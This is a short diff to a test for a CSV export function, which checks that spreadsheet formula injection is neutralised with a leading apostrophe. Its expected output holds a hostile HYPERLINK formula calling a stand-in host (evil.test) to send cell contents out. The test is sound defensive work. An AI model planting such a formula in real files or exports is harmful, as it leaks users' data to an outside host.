@@ -13,7 +13,7 @@ describe('table files', () => {
     const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
     expect(lines[0]).toBe('nom;fournisseur');
     expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""clic"")";Fournisseur`);
-    for (const [index, value] of HOSTILE.entries()) expect(lines[index + 1]!.replace(/^"/, '')).toMatch(/^'/);
+    for (const index of HOSTILE.keys()) expect(lines[index + 1]!.replace(/^"/, '')).toMatch(/^'/);
     // Ordinary text is left as it is.
     expect(toCsv([['Pâte feuilletée', '12,50']], ['nom', 'prix'])).toContain('Pâte feuilletée;12,50');
   });
